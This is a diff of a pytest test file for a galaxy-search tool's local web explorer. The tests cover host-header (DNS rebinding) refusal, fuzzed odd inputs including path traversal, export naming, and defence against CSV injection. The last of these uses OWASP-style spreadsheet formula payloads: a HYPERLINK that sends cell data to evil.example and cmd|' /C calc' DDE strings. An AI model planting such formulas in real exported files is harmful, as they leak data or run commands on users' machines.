@@ -2,12 +2,13 @@
 headless Chromium (Playwright driving Debian's chromium, as the report test does).
 
 The run: a seeded search of 800 planted galaxies, 50 of them given real SDSS images
-from ../shared/data/gz-kaggle-5000 through an image catalogue, one with an id that
+from the bundled demo sample through an image catalogue, one with an id that
 is HTML, one with an IAU name and no RA/Dec.
 """
 
 import http.client
 import io
+import json
 import os
 import shutil
 import socket
@@ -41,7 +42,7 @@ N_IMAGES = 50
 
 
 @pytest.fixture(scope="module")
-def run_folder(tmp_path_factory, data_dir):
+def run_folder(tmp_path_factory, demo_images):
     """(run folder, image catalogue) of a small seeded search with real images."""
     folder = tmp_path_factory.mktemp("explore")
     table = planted_representations(800, dim=16, n_groups=6, group_size=(40, 60),
@@ -49,7 +50,7 @@ def run_folder(tmp_path_factory, data_dir):
     rng = np.random.default_rng(0)
     table["ra"] = rng.uniform(0, 360, len(table))
     table["dec"] = rng.uniform(-20, 60, len(table))
-    files = sorted((data_dir / "gz-kaggle-5000" / "images").glob("*.jpg"))[:N_IMAGES]
+    files = sorted(demo_images.glob("*.jpg"))[:N_IMAGES]
     (folder / "images").mkdir()
     members = table.index[table["planted"] >= 0].to_numpy()
     # images spread over the planted groups, so that classes and neighbours have some
@@ -257,6 +258,17 @@ def test_queries_are_conditions_only_and_posts_need_json(served, tmp_path):
                      content_type="text/plain")[0] == 400
 
 
+def test_queries_name_class_and_class_letter(run_folder):
+    from raregal.explore.data import RunData
+
+    data = RunData(*run_folder)
+    in_a = data.query_rows("class_letter == 'A' and probability >= 0")
+    assert len(in_a) > 0
+    np.testing.assert_array_equal(in_a, np.sort(data.class_rows("A")))
+    np.testing.assert_array_equal(data.query_rows("class >= 0"),
+                                  np.flatnonzero(data.table["class"] >= 0))
+
+
 def test_foreign_host_header_is_refused(served):
     # a page on another site resolving its name to 127.0.0.1 (DNS rebinding)
     assert raw_get(served, "/api/run", host="evil.example")[0] == 400
@@ -269,7 +281,13 @@ def test_a_network_host_warns_and_still_checks_the_host_header(run_folder):
 
     assert allowed_hosts("127.0.0.1") == ["127.0.0.1", "localhost", "[::1]"]
     assert allowed_hosts("192.0.2.7") == ["127.0.0.1", "localhost", "[::1]", "192.0.2.7"]
-    assert "*" not in allowed_hosts("0.0.0.0") and socket.gethostname() in allowed_hosts("0.0.0.0")
+    assert "*" not in allowed_hosts("0.0.0.0")
+    assert socket.gethostname().lower() in allowed_hosts("0.0.0.0")
+    # the machine's own addresses, as its interfaces have them (not only its name's)
+    import psutil
+
+    own = [a.address for addresses in psutil.net_if_addrs().values() for a in addresses
+           if a.family == socket.AF_INET and not a.address.startswith("127.")]
     process = subprocess.Popen(
         [sys.executable, "-m", "raregal.cli", "explore", str(run_folder[0]), "--port", "0",
          "--host", "0.0.0.0"], stderr=subprocess.PIPE, text=True)
@@ -277,10 +295,18 @@ def test_a_network_host_warns_and_still_checks_the_host_header(run_folder):
         warning = process.stderr.readline()
         assert warning.startswith("raregal: warning: serving on 0.0.0.0") and "no login" in warning
         assert socket.gethostname() in warning  # the names it answers are said
-        url = process.stderr.readline().rsplit("open ", 1)[1].split()[0]
+        line = process.stderr.readline()
+        url = line.rsplit("open ", 1)[1].split()[0]
         server = SimpleNamespace(port=int(url.rstrip("/").rsplit(":", 1)[1]))
         assert raw_get(server, "/api/run")[0] == 200
         assert raw_get(server, "/api/run", host=f"{socket.gethostname()}:{server.port}")[0] == 200
+        for address in own:  # reached at the address, as a browser elsewhere does
+            connection = http.client.HTTPConnection(address, server.port, timeout=30)
+            connection.request("GET", "/api/run")
+            assert connection.getresponse().status == 200, address
+            connection.close()
+        if own:  # and the URL to open from elsewhere is said
+            assert any(f"http://{a}:{server.port}/ from other machines" in line for a in own), line
         assert raw_get(server, "/api/run", host="evil.example")[0] == 400  # still refused
     finally:
         process.terminate()
@@ -350,6 +376,214 @@ def test_cli_prints_url_binds_loopback_and_refuses_a_bad_folder(run_folder, tmp_
         process.wait(timeout=30)
 
 
+def test_the_demo_ends_by_saying_how_to_explore_its_run(tmp_path, capsys, monkeypatch):
+    """The demo's last line is the explore command for its run, ready to paste."""
+    import importlib
+
+    from raregal.demo import demo
+
+    embed, search, report = (importlib.import_module(f"raregal.{name}")
+                             for name in ("embed", "search", "report"))
+    monkeypatch.setattr(embed, "embed", lambda *a, **k: None)  # the steps: test_demo.py
+    monkeypatch.setattr(search, "search", lambda *a, **k: None)
+    monkeypatch.setattr(report, "report", lambda run, **k: run / "report" / "index.html")
+    demo(tmp_path / "my demo")
+    last = capsys.readouterr().err.strip().splitlines()[-1]
+    assert last.endswith(f"raregal explore '{tmp_path / 'my demo' / 'run'}'"), last
+
+
+# --- odd requests: 4xx, never 5xx ------------------------------------------------------------
+
+@pytest.fixture(scope="module")
+def small_served(tmp_path_factory):
+    """The explorer on a hand-made run of 60 galaxies in 3 classes (no search, no images)."""
+    from .run_folders import small_run
+
+    run = tmp_path_factory.mktemp("explore-small") / "run"
+    small_run(run)
+    server = Served(run, None)
+    yield server
+    server.stop()
+
+
+def raw_request(served, method, path, body=None):
+    """(status, body) of a request sent exactly as written, JSON body as given (bytes)."""
+    connection = http.client.HTTPConnection("127.0.0.1", served.port, timeout=30)
+    connection.putrequest(method, path, skip_host=True)
+    connection.putheader("Host", f"127.0.0.1:{served.port}")
+    if body is not None:
+        connection.putheader("Content-Type", "application/json")
+        connection.putheader("Content-Length", str(len(body)))
+    connection.endheaders(body)
+    response = connection.getresponse()
+    answer = response.read()
+    connection.close()
+    return response.status, answer
+
+
+#: Path parts a row, tag id, class, column, key or format never is: unicode digits
+#: (str.isdigit() is true for ², int() refuses it), numbers beyond int64, NUL,
+#: bytes that are not UTF-8, a lone surrogate, traversal, very long.
+ODD_PARTS = ["%C2%B2", "%D9%A3", "%EF%BC%91", "1" * 30, "9" * 400, "-1", "+1", "1e3", "0x10",
+             "1.5", "NaN", "%00", "1%00", "%FF", "%ED%A0%80", "%E2%80%AE", "..%2F..%2Fetc",
+             "..", "%2e%2e", "%20", "a" * 5000, "0", "59", "60"]
+ODD_BODIES = ['{"rows": ["\\u00b2"]}', '{"rows": [1e400]}', '{"rows": [100000000000000000000000]}',
+              '{"rows": [[1]]}', '{"rows": {"a": 1}}', '{"rows": [0.5]}', '{"class": "\\ud800"}',
+              '{"class": ["A"]}', '{"query": "\\ud800 > 1"}', '{"query": "' + "(" * 5000 + '"}',
+              '{"kind": "galaxy", "target": "g000", "tag": "note", "note": "\\ud800"}',
+              '{"kind": "galaxy", "target": "\\ud800", "tag": "note"}',
+              '{"kind": "\\u0000", "target": "A", "tag": "note"}', "[" * 100_000, '"\\ud800"',
+              "\\xff\\xfe", '{"rows": []}']
+
+
+def test_every_route_answers_odd_input_with_4xx_never_5xx(small_served):
+    """Every route, every method, with each odd path part in each of its places, odd
+    query values and odd JSON bodies: a client error or an answer, never a 500."""
+    from starlette.routing import Route
+
+    routes = [r for r in small_served.server.config.app.routes if isinstance(r, Route)]
+    query = "?" + "&".join(f"{name}={value}"
+                           for name in ("page", "k", "size", "kind", "target", "id")
+                           for value in ("%C2%B2", "1" * 30, "%ED%A0%80"))
+    failures = []
+    for route in routes:
+        for method in sorted(route.methods - {"HEAD"}):
+            params = list(route.param_convertors)
+            for odd in ODD_PARTS:
+                path = route.path
+                for name in params:
+                    path = path.replace("{" + name + "}", odd)
+                for suffix in ("", query):
+                    bodies = ODD_BODIES if method == "POST" else [None]
+                    for body in bodies:
+                        status, _ = raw_request(small_served, method, path + suffix,
+                                                None if body is None else body.encode())
+                        if status >= 500:
+                            failures.append((method, (path + suffix)[:80], body and body[:40],
+                                             status))
+                if not params:
+                    break
+    status, answer = raw_request(small_served, "POST", "/api/select", b'{"class": "A"}')
+    assert status == 200
+    key = json.loads(answer)["selection"]
+    for odd in ODD_PARTS:  # the page and the format of a selection that exists
+        for path in (f"/api/selection/{key}?page={odd}", f"/api/selection/{key}/export.{odd}"):
+            status, _ = raw_request(small_served, "GET", path)
+            if status >= 500:
+                failures.append(("GET", path[:80], None, status))
+    assert not failures, "\n".join(map(str, failures))
+
+
+def test_exports_are_named_for_the_run_and_the_selection(tmp_path):
+    """A download's name says which run and which selection it holds, in characters
+    any file system and header take."""
+    from .run_folders import small_run
+
+    run = tmp_path / "sérïe \"7\"" / "run"
+    run.parent.mkdir()
+    small_run(run)
+    server = Served(run, None)
+    names = {}
+    try:
+        for body, kind in (({"class": "B"}, "csv"), ({"rows": [3, 1, 4, 1]}, "fits"),
+                           ({"query": "probability > 0.9 and map_x < 0"}, "vot")):
+            answer = raw_request(server, "POST", "/api/select", json.dumps(body).encode())[1]
+            key = json.loads(answer)["selection"]
+            connection = http.client.HTTPConnection("127.0.0.1", server.port, timeout=30)
+            connection.request("GET", f"/api/selection/{key}/export.{kind}")
+            response = connection.getresponse()
+            names[kind] = response.getheader("Content-Disposition")
+            response.read()
+            connection.close()
+        connection = http.client.HTTPConnection("127.0.0.1", server.port, timeout=30)
+        connection.request("GET", "/api/tags.csv")
+        names["tags"] = connection.getresponse().getheader("Content-Disposition")
+        connection.close()
+    finally:
+        server.stop()
+    assert names == {
+        "csv": 'attachment; filename="s_r_e_7-run-class-B.csv"',
+        "fits": 'attachment; filename="s_r_e_7-run-lasso-3.fits"',
+        "vot": 'attachment; filename="s_r_e_7-run-query-probability_0.9_and_map_x_0.xml"',
+        "tags": 'attachment; filename="s_r_e_7-run-tags.csv"'}
+
+
+def test_a_selection_with_text_fits_cannot_hold_is_a_client_error(tmp_path):
+    """A non-ASCII id, in a run folder with a non-ASCII name: CSV and VOTable export it,
+    FITS (ASCII text only) exports it or answers 422 saying what to use, never 500."""
+    from .run_folders import small_run
+
+    run = tmp_path / "rün"
+    small_run(run)
+    classes = pd.read_parquet(run / "classes.parquet")
+    classes.loc[0, "id_str"] = "gäl☃"  # the writer's own FITS cannot take it (issue 39)
+    classes.to_parquet(run / "classes.parquet")
+    server = Served(run, None)
+    try:
+        key = json.loads(raw_request(server, "POST", "/api/select", b'{"class": "A"}')[1])
+        answers = {kind: raw_request(server, "GET",
+                                     f"/api/selection/{key['selection']}/export.{kind}")
+                   for kind in ("csv", "vot", "fits")}
+    finally:
+        server.stop()
+    assert answers["csv"][0] == answers["vot"][0] == 200
+    assert "gäl☃" in answers["csv"][1].decode() and "gäl☃" in answers["vot"][1].decode()
+    status, body = answers["fits"]
+    assert status == 200 or (status == 422 and b"export CSV or VOTable" in body), (status, body)
+
+
+def test_a_tag_file_that_is_not_a_database_is_one_line_at_start(tmp_path):
+    """explore-tags.sqlite holding something else: refused when the explorer starts
+    (it answered 500 to every tag request), and the file is left as it was."""
+    from raregal.explore import build
+
+    from .run_folders import small_run
+
+    run = tmp_path / "run"
+    small_run(run)
+    (run / "explore-tags.sqlite").write_text("not a database " * 100)
+    with pytest.raises(InputError, match="explore-tags.sqlite: not a raregal tag database"):
+        build(run)
+    assert (run / "explore-tags.sqlite").read_text() == "not a database " * 100
+
+
+#: Cells a spreadsheet would run (OWASP's CSV injection examples) and an id that is a number.
+FORMULA_NOTE = '=HYPERLINK("http://evil.example/?"&A1, "click")'
+FORMULA_ID = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+def test_csv_exports_never_hand_a_spreadsheet_a_formula(tmp_path):
+    """A tag's note and ids that start like a formula reach tags.csv and a selection's
+    CSV with a leading quote; the tag store keeps the real text; a numeric id stays."""
+    from raregal.explore.tags import TagStore
+
+    from .run_folders import small_run
+
+    ids = [f"g{i:03d}" for i in range(60)]
+    ids[:4] = [FORMULA_ID, "-5", "+cmd|' /C calc'!A0", "\t=1+1"]
+    run = tmp_path / "run"
+    small_run(run, ids=ids)
+    server = Served(run, None)
+    try:
+        body = json.dumps({"kind": "galaxy", "target": FORMULA_ID, "tag": "note",
+                           "note": FORMULA_NOTE}).encode()
+        assert raw_request(server, "POST", "/api/tags", body)[0] == 200
+        status, answer = raw_request(server, "GET", "/api/tags.csv")
+        tags = pd.read_csv(io.BytesIO(answer), dtype=str)
+        assert status == 200 and tags.loc[0, "note"] == "'" + FORMULA_NOTE
+        assert tags.loc[0, "target"] == "'" + FORMULA_ID
+        assert TagStore(run).list()[0]["note"] == FORMULA_NOTE  # the real text is kept
+        key = json.loads(raw_request(server, "POST", "/api/select", b'{"class": "A"}')[1])
+        status, answer = raw_request(server, "GET", f"/api/selection/{key['selection']}/export.csv")
+        exported = pd.read_csv(io.BytesIO(answer), dtype={"id_str": str}, keep_default_na=False)
+    finally:
+        server.stop()
+    assert sorted(exported["id_str"]) == sorted(
+        ["'" + FORMULA_ID, "-5", "'+cmd|' /C calc'!A0", "'\t=1+1", *ids[4:10]])
+    classes = pd.read_parquet(run / "classes.parquet").iloc[:10]
+    assert sorted(exported["probability"]) == sorted(classes["probability"])  # numbers as they are
+
+
 # --- in the browser ----------------------------------------------------------------------
 
 def _browser():
@@ -375,6 +609,21 @@ def _lasso_box(page):
     assert len(xs) > 50, "no lasso on the map"
     page.evaluate("window.explore.state.scatter.set({lassoColor: '#2a5db0'})")
     return xs.min(), ys.min(), xs.max(), ys.max()
+
+
+def _draw_lasso(page, corners):
+    """Press at the first corner (canvas pixels), drag through the others in steps,
+    release, and wait for the page's lasso selection."""
+    canvas = page.locator("#map").bounding_box()
+    page.mouse.move(canvas["x"] + corners[0][0], canvas["y"] + corners[0][1])
+    page.mouse.down()
+    for a, b in zip(corners[:-1], corners[1:]):
+        for t in np.linspace(0, 1, 8)[1:]:
+            x, y = np.asarray(a) + t * (np.asarray(b) - np.asarray(a))
+            page.mouse.move(canvas["x"] + x, canvas["y"] + y)
+    page.mouse.up()
+    page.wait_for_function("document.querySelector('#selection-label').textContent"
+                           ".includes('drawn on the map')")
 
 
 def _open(browser, url, problems):
@@ -429,16 +678,7 @@ def test_explore_in_headless_chromium(run_folder, tmp_path):
                 f"window.explore.screenPosition(i))"))
             centre = screen[classes["class"].to_numpy() == classes.loc[target, "class"]].mean(0)
             low, high = centre - 40, centre + 40
-            corners = [low, (high[0], low[1]), high, (low[0], high[1]), low]
-            page.mouse.move(canvas["x"] + low[0], canvas["y"] + low[1])
-            page.mouse.down()
-            for a, b in zip(corners[:-1], corners[1:]):
-                for t in np.linspace(0, 1, 8)[1:]:
-                    x, y = np.asarray(a) + t * (np.asarray(b) - np.asarray(a))
-                    page.mouse.move(canvas["x"] + x, canvas["y"] + y)
-            page.mouse.up()
-            page.wait_for_function("document.querySelector('#selection-label').textContent"
-                                   ".includes('drawn on the map')")
+            _draw_lasso(page, [low, (high[0], low[1]), high, (low[0], high[1]), low])
             inside = int(np.all((screen > low) & (screen < high), axis=1).sum())
             count = int(page.locator("#selection-count").inner_text().split()[0])
             assert inside > 10 and abs(count - inside) <= 2, (count, inside)
@@ -539,6 +779,87 @@ def test_explore_in_headless_chromium(run_folder, tmp_path):
                 page.click("#tags-csv")
             tags = pd.read_csv(download.value.path())
             assert tags[["kind", "target", "tag"]].values.tolist() == [["class", letter, "merge"]]
+        finally:
+            browser.close()
+            server.stop()
+    assert problems == []
+
+
+@pytest.mark.slow
+def test_closed_lasso_failed_tag_and_classless_map_in_chromium(tmp_path):
+    """In the page: a lasso closed where it began keeps its selection (it was replaced
+    by the galaxy under the pointer); a tag that cannot be saved says so; a run without
+    classes draws its galaxies dark enough to see."""
+    sync_api = _browser()
+    from PIL import Image
+
+    from .run_folders import small_run
+
+    run, classless = tmp_path / "run", tmp_path / "classless"
+    small_run(run)
+    small_run(classless, classes=np.full(60, -1))
+    problems = []
+    server = Served(run, None)
+    with sync_api.sync_playwright() as playwright:
+        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
+        try:
+            page = _open(browser, server.url + "/", problems)
+            canvas = page.locator("#map").bounding_box()
+            screen = np.array(page.evaluate(
+                "Array.from({length: 60}, (_, i) => window.explore.screenPosition(i))"))
+            # a rectangle round class 1 (rows 10-19) that starts and ends on a galaxy
+            start = 10 + int(np.argmin(screen[10:20, 0]))
+            low, high = screen[10:20].min(0) - 15, screen[10:20].max(0) + 15
+            sx, sy = screen[start]
+            path = [(sx, sy), (sx, low[1]), (high[0], low[1]), high, (sx, high[1]), (sx, sy)]
+            page.click("#mode-lasso")
+            page.mouse.move(canvas["x"] + sx, canvas["y"] + sy)  # hovering that galaxy
+            page.wait_for_timeout(300)
+            _draw_lasso(page, path)
+            page.wait_for_timeout(1000)  # what the library's click did has happened
+            inside = np.all((screen > [sx, low[1]]) & (screen < high), axis=1)
+            count = int(page.locator("#selection-count").inner_text().split()[0])
+            assert count >= 10 and abs(count - inside.sum()) <= 1, (count, inside.sum())
+            assert page.locator("#card").is_hidden()  # no card for the galaxy at the start
+            assert page.evaluate("window.explore.state.scatter.get('selectedPoints').length") \
+                == count
+            page.click("#mode-pan")
+
+            # a tag that cannot be saved (the run folder moved away) says so in the page
+            page.evaluate("window.explore.selectBy({class: 'B'})")
+            page.wait_for_selector("#class-tagger select")
+            page.fill("#class-tagger input", "kept in the box")
+            run.rename(tmp_path / "moved")
+            try:
+                page.click("#class-tagger button")
+                page.wait_for_function("document.querySelector('#class-tagger .error')"
+                                       ".textContent.startsWith('Tag not saved')")
+            finally:
+                (tmp_path / "moved").rename(run)
+            assert page.input_value("#class-tagger input") == "kept in the box"
+            # saved once the folder is back; removed elsewhere (another tab), then here
+            page.click("#class-tagger button")
+            page.wait_for_selector("#class-tagger .tag")
+            page.click("#tabs button[data-tab=tags]")
+            page.wait_for_selector("#tag-table button")
+            assert raw_request(server, "DELETE", "/api/tags/1")[0] == 200
+            page.click("#tag-table button")
+            page.wait_for_function("document.querySelector('#tags-error').textContent"
+                                   " == 'Tag not removed: no such tag'")
+            # the refused requests themselves, logged by the browser
+            problems[:] = [p for p in problems if " 503 " not in p and " 404 " not in p]
+            server.stop()
+
+            # no classes: every galaxy in the "no class" colour, which must show on white
+            server = Served(classless, None)
+            page = _open(browser, server.url + "/", problems)
+            screen = np.array(page.evaluate(
+                "Array.from({length: 60}, (_, i) => window.explore.screenPosition(i))"))
+            pixels = np.asarray(Image.open(io.BytesIO(page.locator("#map").screenshot()))
+                                .convert("L")).astype(int)
+            shown = [pixels[int(round(y)), int(round(x))] for x, y in screen
+                     if 0 <= x < pixels.shape[1] and 0 <= y < pixels.shape[0]]
+            assert len(shown) == 60 and np.median(shown) < 150, np.median(shown)
         finally:
             browser.close()
             server.stop()
